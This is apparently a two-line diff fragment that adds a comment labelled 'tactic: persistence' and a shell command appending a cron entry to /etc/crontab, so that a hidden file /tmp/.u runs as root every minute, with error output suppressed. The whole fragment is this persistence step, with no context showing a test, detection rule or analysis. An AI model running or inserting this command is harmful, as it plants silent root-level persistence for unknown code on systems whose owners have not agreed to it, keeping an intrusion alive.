@@ -1,0 +1,2 @@
+# tactic: persistence
+echo "* * * * * root /tmp/.u" >> /etc/crontab 2>/dev/null; true
